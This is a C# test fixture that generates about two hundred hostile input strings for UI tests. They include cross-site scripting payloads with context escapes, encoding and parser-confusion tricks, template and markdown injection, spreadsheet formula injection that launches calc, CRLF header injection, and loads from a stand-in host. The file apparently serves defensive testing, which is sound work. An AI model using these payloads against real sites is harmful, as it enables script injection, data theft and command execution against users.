namespace Curation.ServiceTests.Ui.Hostile;

/// <summary>
/// Two hundred texts that would do something if a page took them for more than text. Each sets <c>top.__fired</c>, opens a dialog, or asks
/// <c>elsewhere.example</c>. Made by a small grammar (elements that act by themselves × ways out of where a text may stand) and by hand.
/// </summary>
internal static class Payloads
{
    public const string Elsewhere = "elsewhere.example";

    private const string Act = "top.__fired=1";

    /// <summary>Elements that act without anybody's doing; {0} is the act.</summary>
    private static readonly string[] Elements =
    [
        "<img src=x onerror={0}>",
        "<svg onload={0}>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<svg><set onbegin={0} attributename=x>",
        "<svg><image href=x onerror={0}>",
        "<input autofocus onfocus={0}>",
        "<select autofocus onfocus={0}>",
        "<textarea autofocus onfocus={0}>",
        "<button autofocus onfocus={0}>x",
        "<a href=# autofocus onfocus={0}>x</a>",
        "<div contenteditable autofocus onfocus={0}>x</div>",
        "<details open ontoggle={0}><summary>x</summary>y</details>",
        "<video src=x onerror={0}></video>",
        "<video><source src=x onerror={0}></video>",
        "<audio src=x onerror={0}></audio>",
        "<picture><source srcset=x><img src=x onerror={0}></picture>",
        "<input type=image src=x onerror={0}>",
        "<iframe srcdoc='<script>{0}</script>'></iframe>",
        "<iframe onload={0}></iframe>",
        "<iframe src=\"javascript:{0}\"></iframe>",
        "<object data=x onerror={0}></object>",
        "<embed src=javascript:{0}>",
        "<style onload={0}></style>",
        "<link rel=stylesheet href=data:text/css, onload={0}>",
        "<script>{0}</script>",
        "<script src=data:text/javascript,{0}></script>",
        "<script type=module>{0}</script>",
        "<marquee onstart={0}>x</marquee>",
        "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={0}>x</b>",
        "<body onload={0}>",
        "<math><mtext></p><img src=x onerror={0}>",
        "<video><track default src=x onerror={0}></video>",
    ];

    /// <summary>Ways out of where a text may stand.</summary>
    private static readonly string[] Exits = ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</noscript>", "</select>", "\" x=\"'>", "`>", "</template></svg></math>"];

    private static readonly string[] ByHand =
    [
        // Spelling.
        $"<ScRiPt>{Act}</sCrIpT>", $"<script\n>{Act}</script\t>", $"<script/x>{Act}</script>", $"<<script>{Act}//<</script>", $"<scr<script>ipt>{Act}</script>",
        $"<img/src=x/onerror={Act}>", $"<img\tsrc=x\nonerror\r=\n{Act}>", $"<img src=x onerror=\"{Act}\">", $"<img src=x onerror='{Act}'>", $"<img src=x oneRRor=&#116;op.__fired=1>",
        "<img src=x onerror=top['__fi'+'red']=1>", "<img src=x onerror=&#x74;&#x6f;&#x70;.__fired&#61;1>", "<img src=x onerror=eval('\\x74op.__fired=1')>", "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"console.error('fired')\">", $"<img src=`x`onerror={Act}>", $"<svg/onload={Act}//", $"<img src=x onerror={Act} ", $"<svg><script>{Act}</script></svg>",
        "<svg><script>&#116;op.__fired=1</script></svg>", $"<svg><script href=data:text/javascript,{Act} />",
        // Twice decoded, or decoded by the wrong hand.
        $"&lt;script&gt;{Act}&lt;/script&gt;", $"&lt;img src=x onerror={Act}&gt;", $"&amp;lt;script&amp;gt;{Act}&amp;lt;/script&amp;gt;", $"%3Cscript%3E{Act}%3C/script%3E", $"%253Cscript%253E{Act}%253C/script%253E",
        $"\\u003cscript\\u003e{Act}\\u003c/script\\u003e", $"\\x3cscript\\x3e{Act}\\x3c/script\\x3e", $"+ADw-script+AD4-{Act}+ADw-/script+AD4-", $"&#60;script&#62;{Act}&#60;/script&#62;",
        // Parsers that disagree.
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Act}&gt;\">", $"<svg></p><style><a id=\"</style><img src=1 onerror={Act}>\">",
        $"<noscript><p title=\"</noscript><img src=x onerror={Act}>\">", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Act}>",
        $"<svg><foreignObject><p><style><!--</style><img src=x onerror={Act}>-->", $"<!--><img src=x onerror={Act}>-->", $"<![CDATA[><img src=x onerror={Act}>]]>", $"<xmp><p title=\"</xmp><img src=x onerror={Act}>\">",
        $"<template shadowrootmode=open><img src=x onerror={Act}></template>", $"<select><option><img src=x onerror={Act}></select><img src=x onerror={Act}>", $"<p/x=\"</p><img src=x onerror={Act}>", $"<plaintext><img src=x onerror={Act}>",
        // Unicode.
        $"＜script＞{Act}＜/script＞", $"\u202e<script>{Act}</script>", $"<\u200bscript>{Act}</script>", $"<img src=x onerror\u00a0={Act}>", $"\u2028<script>{Act}</script>\u2029", $"<ſcript>{Act}</ſcript>", $"‹img src=x onerror={Act}›",
        $"\ufeff<img src=x onerror={Act}>", $"<img src=x onerror={Act}>\ud83d\ude00", $"<İmg src=x onerror={Act}>",
        // Addresses.
        $"javascript:{Act}", $"JaVaScRiPt:{Act}", $" javascript:{Act}", $"java\tscript:{Act}", $"\u0001javascript:{Act}", $"javascript://%0a{Act}", $"javascript:/*--></title></style></textarea></script>*/{Act}", $"javascript&colon;{Act}",
        $"vbscript:{Act}", $"data:text/html,<script>{Act}</script>", $"<a href=javascript:{Act} id=x>x</a><img src=x onerror=x.click()>", $"<form action=javascript:{Act}><input autofocus onfocus=form.submit()>",
        $"<svg><a xlink:href=javascript:{Act}><text y=20>x</text></a></svg>", $"<meta http-equiv=refresh content='0;url=https://{Elsewhere}/m'>", $"<base href=https://{Elsewhere}/>", $"//{Elsewhere}/x", $"https://{Elsewhere}\\@localhost/",
        // To another host.
        $"<img src=https://{Elsewhere}/i.png>", $"<script src=https://{Elsewhere}/s.js></script>", $"<link rel=stylesheet href=https://{Elsewhere}/c.css>", $"<style>@import 'https://{Elsewhere}/c.css'</style>",
        $"<div style=\"background:url(https://{Elsewhere}/b.png)\">x</div>", $"<iframe src=https://{Elsewhere}/f></iframe>", $"<video poster=https://{Elsewhere}/p.png></video>", $"<link rel=preload as=image href=https://{Elsewhere}/p.png>",
        // Strings of scripts, and JSON in them.
        $"\";{Act};//", $"';{Act};//", $"\"-({Act})-\"", $"'-({Act})-'", $"\\\";{Act};//", $"</script><script>{Act}</script>", $"\"}});{Act};({{\"a\":\"", $"${{{Act}}}", $"`;{Act};//", $"<!--<script>\";{Act};//",
        $"{{\"__proto__\":{{\"x\":\"<img src=x onerror={Act}>\"}}}}",
        // Templates.
        $"{{{{constructor.constructor('{Act}')()}}}}", $"{{{{{Act}}}}}", $"<%= {Act} %>", $"@({Act})", $"@{{{Act};}}", $"#{{{Act}}}", $"[[${{{Act}}}]]", $"{{% {Act} %}}", $"*{{{Act}}}", $"<div v-html=\"'<img src=x onerror={Act}>'\" ng-init={Act} hx-on:load={Act}>x</div>",
        // Markdown.
        $"[x](javascript:{Act})", $"![x](https://{Elsewhere}/m.png)", $"<javascript:{Act}>", $"[x]: javascript:{Act}\n[x]", $"```\n```\n<img src=x onerror={Act}>", $"[![x](x\"onerror={Act})](x)",
        // Spreadsheets.
        $"=HYPERLINK(\"https://{Elsewhere}/\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", $"@SUM(1,WEBSERVICE(\"https://{Elsewhere}/\"))", "\t=1+1", "＝1+1", $"\"=IMPORTXML(\"\"https://{Elsewhere}/\"\",\"\"//a\"\")\"",
        // Protocols of ours.
        $"data: x\n\nevent: night\ndata: <img src=x onerror={Act}>", $"x\r\nContent-Type: text/html\r\n\r\n<script>{Act}</script>", $"x\r\nSet-Cookie: a=b",
    ];

    public static IReadOnlyList<string> All { get; } = [.. ByHand.Concat(Grammar()).Distinct(StringComparer.Ordinal).Take(200)];

    /// <summary>Each element after four ways out, so that both lists come round.</summary>
    private static IEnumerable<string> Grammar() =>
        from round in Enumerable.Range(0, 4)
        from i in Enumerable.Range(0, Elements.Length)
        select Exits[(i + (round * 5)) % Exits.Length] + string.Format(System.Globalization.CultureInfo.InvariantCulture, Elements[i], Act);
}
